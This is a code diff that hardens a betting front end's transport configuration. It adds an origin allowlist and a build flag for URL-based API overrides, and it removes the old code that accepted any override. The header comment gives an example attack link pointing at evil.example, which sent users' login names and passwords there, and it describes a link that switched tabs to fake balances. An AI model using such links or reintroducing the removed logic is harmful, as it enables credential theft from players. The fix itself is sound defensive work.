@@ -1,5 +1,5 @@
 /**
- * Which transport runs, and where it points. Configuration only, never a code change:
+ * Which transport runs, and where it points. Configuration only, never a code change.
  *
  * Build time (Vite env, e.g. `VITE_TRANSPORT=http npm run build`):
  *   VITE_TRANSPORT       'sim' (default) or 'http'
@@ -11,12 +11,26 @@
  *   VITE_SIM_SEED        world seed of the simulated backend, default 'demo' (sim mode)
  *   VITE_SIM_CLOCK_RATE  sim clock speed, 1 = real time (sim mode)
  *   VITE_SIM_WORLD       'off' starts the world without its simulated crowd (sim mode)
+ *   VITE_ALLOW_TRANSPORT_OVERRIDE    '1' lets a link point this build at another real API (off by default)
+ *   VITE_TRANSPORT_OVERRIDE_ORIGINS  the origins such a link may name, comma-separated, e.g.
+ *                                    'https://staging-api.operator.example,wss://ws.staging.operator.example:6001'
  *
  * Run time (query parameters, remembered for the tab in sessionStorage so navigation keeps them):
- *   ?transport=http&api=https://api.operator.example[&key=…&cluster=…&host=…&port=…]
- *   ?transport=sim[&seed=abc][&clock=60][&world=off]
+ *   ?transport=sim[&seed=abc][&clock=60][&world=off]   sim builds only, always allowed: the world is fake
+ *                                                      and stays in the browser.
+ *   ?transport=http&api=<origin>[&key=…&cluster=…&host=…&port=…]
+ *        only in a build with VITE_ALLOW_TRANSPORT_OVERRIDE=1, and only when the API's origin and the
+ *        broadcaster's socket origin (wss://host:port, or Pusher's ws-<cluster>.pusher.com) are the build's
+ *        own or on VITE_TRANSPORT_OVERRIDE_ORIGINS (compared as parsed origins: scheme, host and port).
  *   ?transport=reset  forgets the override.
+ *
+ * Why so strict: a link is all an attacker needs. Without these rules `?transport=http&api=https://evil.example`
+ * sent the next login (name and password) to evil.example, and `?transport=sim` turned a player's tab into
+ * the simulator with fake balances. So an HTTP build never switches to the sim by link (the sim build exists
+ * for that), and a sim build, often a public demo on the operator's domain, follows the same allowlist before
+ * it sends anything to a network. A remembered override that the build no longer allows is dropped.
  */
+import { acceptHttpOverride, type OverridePolicy, overridePolicy } from './override-policy';
 
 export interface SimConfig {
   kind: 'sim';
@@ -24,6 +38,8 @@ export interface SimConfig {
   clockRate: number;
   /** Whether the simulated crowd lives in this world (bets, chat, tips, quizzes); false for a quiet world. */
   world: boolean;
+  /** True when a run-time override chose this configuration, not the build. */
+  overridden?: boolean;
 }
 
 export interface HttpConfig {
@@ -33,9 +49,13 @@ export interface HttpConfig {
   pusherCluster: string;
   pusherHost: string | null;
   pusherPort: number | null;
+  /** True when a run-time override chose this configuration, not the build. */
+  overridden?: boolean;
 }
 
 export type TransportConfig = SimConfig | HttpConfig;
+
+type Env = Record<string, string | undefined>;
 
 const OVERRIDE_KEY = 'betkings:transport-override';
 const OVERRIDE_PARAMS = [
@@ -49,13 +69,78 @@ const OVERRIDE_PARAMS = [
   'clock',
   'world',
 ] as const;
-type Overrides = Partial<Record<(typeof OVERRIDE_PARAMS)[number], string>>;
+export type Overrides = Partial<Record<(typeof OVERRIDE_PARAMS)[number], string>>;
 
-function readOverrides(search: string, storage: Storage | null): Overrides {
+const positive = (value: string | undefined, fallback: number) => {
+  const number = Number(value);
+  return Number.isFinite(number) && number > 0 ? number : fallback;
+};
+
+/** What the build alone says. */
+function buildConfig(env: Env): TransportConfig {
+  if (env.VITE_TRANSPORT?.trim().toLowerCase() === 'http') {
+    return {
+      kind: 'http',
+      apiUrl: (env.VITE_API_URL ?? '').replace(/\/$/, ''),
+      pusherKey: env.VITE_PUSHER_KEY ?? '',
+      pusherCluster: env.VITE_PUSHER_CLUSTER ?? 'mt1',
+      pusherHost: env.VITE_PUSHER_HOST || null,
+      pusherPort: env.VITE_PUSHER_PORT ? positive(env.VITE_PUSHER_PORT, 443) : null,
+    };
+  }
+  return {
+    kind: 'sim',
+    seed: env.VITE_SIM_SEED || 'demo',
+    clockRate: positive(env.VITE_SIM_CLOCK_RATE, 1),
+    world: (env.VITE_SIM_WORLD ?? 'on').toLowerCase() !== 'off',
+  };
+}
+
+/** The configuration an override asks for, or null when this build does not allow it. */
+function applyOverride(
+  build: TransportConfig,
+  overrides: Overrides,
+  policy: OverridePolicy,
+): TransportConfig | null {
+  if (overrides.transport === 'sim') {
+    if (build.kind !== 'sim') return null;
+    return {
+      kind: 'sim',
+      seed: overrides.seed || build.seed,
+      clockRate: positive(overrides.clock, build.clockRate),
+      world: overrides.world ? overrides.world.toLowerCase() !== 'off' : build.world,
+      overridden: true,
+    };
+  }
+  if (overrides.transport === 'http') return acceptHttpOverride(build, overrides, policy);
+  return null;
+}
+
+function parseStored(raw: string | null): Overrides | null {
+  if (!raw) return null;
+  try {
+    const parsed: unknown = JSON.parse(raw);
+    return typeof parsed === 'object' && parsed !== null ? (parsed as Overrides) : null;
+  } catch {
+    return null;
+  }
+}
+
+function ignored(overrides: Overrides, where: string): void {
+  console.warn(`Ignored a transport override ${where} that this build does not allow`, overrides);
+}
+
+/** The accepted override of the link or, failing that, of the tab's storage; null for none. */
+function resolveOverride(
+  build: TransportConfig,
+  search: string,
+  storage: Storage | null,
+  policy: OverridePolicy,
+): TransportConfig | null {
   const params = new URLSearchParams(search);
   if (params.get('transport') === 'reset') {
     storage?.removeItem(OVERRIDE_KEY);
-    return {};
+    return null;
   }
   const fromQuery: Overrides = {};
   for (const name of OVERRIDE_PARAMS) {
@@ -63,43 +148,28 @@ function readOverrides(search: string, storage: Storage | null): Overrides {
     if (value) fromQuery[name] = value;
   }
   if (fromQuery.transport) {
-    storage?.setItem(OVERRIDE_KEY, JSON.stringify(fromQuery));
-    return fromQuery;
+    const accepted = applyOverride(build, fromQuery, policy);
+    if (accepted) {
+      storage?.setItem(OVERRIDE_KEY, JSON.stringify(fromQuery));
+      return accepted;
+    }
+    ignored(fromQuery, 'in the link');
   }
-  try {
-    return JSON.parse(storage?.getItem(OVERRIDE_KEY) ?? '{}') as Overrides;
-  } catch {
-    return {};
+  const stored = parseStored(storage?.getItem(OVERRIDE_KEY) ?? null);
+  if (!stored) return null;
+  const accepted = applyOverride(build, stored, policy);
+  if (!accepted) {
+    storage?.removeItem(OVERRIDE_KEY);
+    ignored(stored, 'remembered by this tab');
   }
+  return accepted;
 }
 
-const positive = (value: string | undefined, fallback: number) => {
-  const number = Number(value);
-  return Number.isFinite(number) && number > 0 ? number : fallback;
-};
-
 export function resolveTransportConfig(
-  env: Record<string, string | undefined> = import.meta.env as Record<string, string | undefined>,
+  env: Env = import.meta.env as Env,
   location: { search: string } = globalThis.location ?? { search: '' },
   storage: Storage | null = globalThis.sessionStorage ?? null,
 ): TransportConfig {
-  const overrides = readOverrides(location.search, storage);
-  const kind = overrides.transport ?? env.VITE_TRANSPORT ?? 'sim';
-  if (kind === 'http') {
-    return {
-      kind: 'http',
-      apiUrl: (overrides.api ?? env.VITE_API_URL ?? '').replace(/\/$/, ''),
-      pusherKey: overrides.key ?? env.VITE_PUSHER_KEY ?? '',
-      pusherCluster: overrides.cluster ?? env.VITE_PUSHER_CLUSTER ?? 'mt1',
-      pusherHost: overrides.host ?? env.VITE_PUSHER_HOST ?? null,
-      pusherPort:
-        overrides.port || env.VITE_PUSHER_PORT ? positive(overrides.port ?? env.VITE_PUSHER_PORT, 443) : null,
-    };
-  }
-  return {
-    kind: 'sim',
-    seed: overrides.seed ?? env.VITE_SIM_SEED ?? 'demo',
-    clockRate: positive(overrides.clock ?? env.VITE_SIM_CLOCK_RATE, 1),
-    world: (overrides.world ?? env.VITE_SIM_WORLD ?? 'on').toLowerCase() !== 'off',
-  };
+  const build = buildConfig(env);
+  return resolveOverride(build, location.search, storage, overridePolicy(env, build)) ?? build;
 }
